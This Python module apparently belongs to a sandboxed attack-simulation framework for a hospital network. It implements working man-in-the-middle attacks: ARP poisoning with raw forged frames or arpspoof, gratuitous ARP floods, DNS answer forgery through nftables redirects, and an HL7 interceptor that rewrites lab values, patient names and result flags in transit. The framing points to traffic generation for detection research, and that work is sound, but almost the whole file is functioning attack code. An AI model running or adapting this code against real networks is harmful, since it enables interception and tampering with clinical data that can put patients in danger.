"""Standing in the middle: ARP poisoning with the traffic relayed, forged DNS answers, HL7 changed on its way."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from typing import TYPE_CHECKING

from . import sandbox
from .attacks import MAX_SECONDS
from .management import ping
from .plan import ZONE
from .timed import beats
from .web import http_server

if TYPE_CHECKING:
    from .context import Context

_RELAY = (
    "sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0"
    " net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.eth0.rp_filter=0"
)
MAX_PAIRS = 12  # poisoned at once by one attacker
_ORIGINAL_DST = 80  # SO_ORIGINAL_DST of linux/netfilter_ipv4.h


def near(ctx: Context, targets: list[str]) -> list[str]:
    """The targets in the attacker's own segment, the router apart: where ARP reaches."""
    router = route(ctx)
    return [t for t in targets if "/" not in t and t not in (router, ctx.host.ip)
            and " via " not in sandbox.sh(f"ip -4 route get {t}", check=False)]  # fmt: skip


def route(ctx: Context) -> str:
    """The router's address in the attacker's segment."""
    words = sandbox.sh("ip -4 route show default").split()
    return words[words.index("via") + 1] if "via" in words else ctx.plan.gateway.ip


def mac_of(address: str) -> bytes | None:
    """Who answers for an address, as the attacker's own table knows after an echo request."""
    ping(address)
    words = sandbox.sh(f"ip -4 neigh show {address}", check=False).split()
    if "lladdr" not in words:
        return None
    return bytes.fromhex(words[words.index("lladdr") + 1].replace(":", ""))


def arp_reply(own: bytes, to: bytes, claimed: str, told: str) -> bytes:
    """An Ethernet frame that tells `told` that `claimed` lives at `own`."""
    body = struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + own + socket.inet_aton(claimed) + to + socket.inet_aton(told)
    return to + own + b"\x08\x06" + body.ljust(46, b"\0")


def _pairs(ctx: Context, targets: list[str], victims: int, between: tuple[str, ...]) -> list[tuple[str, str]]:
    servers = near(ctx, [h.ip for h in ctx.plan.role(*between)])
    found = [t for t in near(ctx, targets) if t not in servers]
    ctx.rng.shuffle(found)
    if not between:
        return [(v, route(ctx)) for v in found[:victims]]
    return [(v, server) for v in found[:victims] for server in servers][:MAX_PAIRS]


def mitm(
    ctx: Context,
    targets: list[str],
    seconds: float = 60,
    victims: int = 1,
    between: tuple[str, ...] = (),
    tool: str = "arpspoof",
    one_way: bool = False,
    gap: float = 2,
) -> None:
    """Stand between each victim and the router, or every near host of the roles `between`, relaying everything.

    `tool` is dsniff's arpspoof, or "raw": the same forged replies every `gap` seconds, restored at the end.
    """
    sandbox.sh(_RELAY)
    pairs = _pairs(ctx, targets, victims, between)
    if tool == "raw":
        _poison(ctx, pairs, min(seconds, MAX_SECONDS), one_way, gap)
        return
    threads = []
    for victim, other in pairs:
        ping(victim)
        ping(other)
        args = ["timeout", "-s", "INT", str(int(min(seconds, MAX_SECONDS))), "arpspoof", "-i", "eth0", "-t", victim,
                *([] if one_way else ["-r"]), other]  # fmt: skip
        threads.append(threading.Thread(target=ctx.command, args=(args, seconds + 15), daemon=True))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _poison(ctx: Context, pairs: list[tuple[str, str]], seconds: float, one_way: bool, gap: float) -> None:
    own = bytes.fromhex(ctx.host.mac.replace(":", ""))
    known = {a: mac_of(a) for pair in pairs for a in pair}
    told = [(claimed, to) for victim, other in pairs
            for claimed, to in ((other, victim), (victim, other))[: 1 if one_way else 2]
            if known[victim] and known[other]]  # fmt: skip
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0))
        for _ in beats(ctx, seconds, gap, 0.1):
            for claimed, to in told:
                s.send(arp_reply(own, known[to] or b"", claimed, to))
        for claimed, to in told * 3:
            s.send(arp_reply(known[claimed] or b"", known[to] or b"", claimed, to))


def claims(ctx: Context, targets: list[str], seconds: float = 40, gap: float = 1, relay: bool = True) -> None:
    """Gratuitous ARP for all near targets in turn, relaying what then arrives (or losing it)."""
    if relay:
        sandbox.sh(_RELAY)
    own, everybody = bytes.fromhex(ctx.host.mac.replace(":", "")), b"\xff" * 6
    known = {a: mac_of(a) for a in near(ctx, targets)}
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0))
        for _ in beats(ctx, seconds, gap, 0.2):
            for address in known:
                s.send(arp_reply(own, everybody, address, address))
        for address, mac in known.items():
            if mac:
                s.send(everybody + own + arp_reply(mac, everybody, address, address)[12:])


def dns_spoof(
    ctx: Context,
    targets: list[str],
    seconds: float = 60,
    victims: int = 1,
    tool: str = "dnsspoof",
    share: float = 1.0,
    mitm_tool: str = "arpspoof",
) -> None:
    """In the middle, answer for internet names with the attacker's address, and serve what then comes.

    `tool` is dsniff's dnsspoof (answers race with the relayed ones), or "answer": the questions never go on.
    `share` of the names is forged with "answer"; hospital names are always told rightly.
    """
    for port in (80, 443):
        threading.Thread(target=http_server, args=(ctx, port), daemon=True).start()
    if tool == "dnsspoof":
        names = ctx.work / f"forged.{ctx.host.name}"
        names.write_text("".join(f"{ctx.host.ip} *.{top}\n" for top in ("com", "org", "net")))
        args = ["timeout", str(int(min(seconds, MAX_SECONDS))), "dnsspoof", "-i", "eth0", "-f", str(names)]
        threading.Thread(target=ctx.command, args=(args, seconds + 5), daemon=True).start()
    else:
        sandbox.sh("nft 'add table ip forge; add chain ip forge pre { type nat hook prerouting priority -100; };"
                   " add rule ip forge pre iifname eth0 udp dport 53 redirect to :5300'")  # fmt: skip
        threading.Thread(target=_answer, args=(ctx, seconds, share), daemon=True).start()
    mitm(ctx, targets, seconds, victims, tool=mitm_tool)
    sandbox.sh("nft delete table ip forge", check=False)


def _answer(ctx: Context, seconds: float, share: float) -> None:
    """Answer DNS questions that were redirected here; the kernel gives the answers the server's address."""
    right = {f"{h.name}.{ZONE}": h.ip for h in ctx.plan.hosts} | ctx.plan.sites
    until = time.time() + seconds + 5
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("", 5300))
        s.settimeout(1)
        while time.time() < min(until, ctx.end):
            with contextlib.suppress(OSError, IndexError):
                data, peer = s.recvfrom(1500)
                at, labels = 12, []
                while size := data[at]:
                    labels.append(data[at + 1 : at + 1 + size].decode("latin-1"))
                    at += size + 1
                name = ".".join(labels)
                forged = not name.endswith(ZONE) and name in right and ctx.rng.random() < share
                address = ctx.host.ip if forged else right.get(name)
                found = address is not None and data[at + 1 : at + 3] == b"\0\1"
                head = data[:2] + struct.pack(">HHHHH", 0x8180 if address else 0x8183, 1, int(found), 0, 0)
                body = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton(address or "0.0.0.0")
                s.sendto(head + data[12 : at + 5] + (body if found else b""), peer)


def hl7_in_flight(
    ctx: Context,
    targets: list[str],
    seconds: float = 60,
    victims: int = 2,
    tool: str = "arpspoof",
    change: str = "value",
    between: tuple[str, ...] = ("ris", "ehr", "integration"),
) -> None:
    """Between HL7 senders and their servers: messages pass through the attacker, results or names changed."""
    sandbox.sh("nft 'add table ip change; add chain ip change pre { type nat hook prerouting priority -100; };"
               " add rule ip change pre iifname eth0 tcp dport 2575 redirect to :12575'")  # fmt: skip
    listener = socket.create_server(("", 12575), backlog=64)
    threading.Thread(target=_accept, args=(ctx, listener, change), daemon=True).start()
    mitm(ctx, targets, seconds, victims, between, tool)
    ctx.pause(3, 0)
    sandbox.sh("nft delete table ip change", check=False)


def _accept(ctx: Context, listener: socket.socket, change: str) -> None:
    while time.time() < ctx.end:
        s, _ = listener.accept()
        raw = s.getsockopt(socket.IPPROTO_IP, _ORIGINAL_DST, 16)
        where = socket.inet_ntoa(raw[4:8]), struct.unpack(">H", raw[2:4])[0]
        threading.Thread(target=_through, args=(ctx, s, where, change), daemon=True).start()


def _through(ctx: Context, s: socket.socket, where: tuple[str, int], change: str) -> None:
    old, new = {"value": (b"|NM|", b"|NM|9"), "name": (b"TEST^LAB", b"TEST^OTHER"), "flag": (b"|||||F", b"|H||||C")}[
        change
    ]
    other = ctx.connect(where[0], where[1])
    with s:
        if other is None:
            return
        with other, contextlib.suppress(OSError):
            s.settimeout(60)
            other.settimeout(10)
            while data := s.recv(65536):
                other.sendall(data.replace(old, new))
                s.sendall(other.recv(65536))
